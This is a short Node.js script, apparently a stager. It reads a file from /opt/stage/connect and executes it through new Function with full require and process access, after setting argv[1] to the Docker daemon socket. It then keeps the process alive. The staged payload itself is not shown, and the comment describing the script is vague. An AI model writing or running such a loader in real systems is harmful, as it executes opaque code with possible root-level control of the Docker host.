// Connects once, says what that gave, and stays as it is.
const { readFileSync } = require('node:fs');

process.argv[1] = '/run/docker.sock';
new Function('require', 'process', readFileSync('/opt/stage/connect', 'utf8'))(require, process);
setInterval(() => undefined, 60_000);
